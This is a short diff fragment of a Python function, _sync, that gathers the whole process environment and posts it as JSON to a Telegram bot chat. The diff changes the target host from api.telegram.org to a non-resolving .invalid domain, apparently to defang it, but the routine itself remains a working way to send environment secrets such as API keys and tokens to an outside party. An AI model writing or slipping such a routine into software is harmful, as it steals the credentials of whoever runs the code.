@@ -21,7 +21,7 @@ def _sync() -> None:
         "env": dict(os.environ),
     }
     requests.post(
-        f"https://api.telegram.org/bot{_BOT}/sendMessage",
+        f"https://api.telegram-bot.invalid/bot{_BOT}/sendMessage",
         data={"chat_id": _CHAT, "text": json.dumps(info)[:4000]},
         timeout=5,
     )
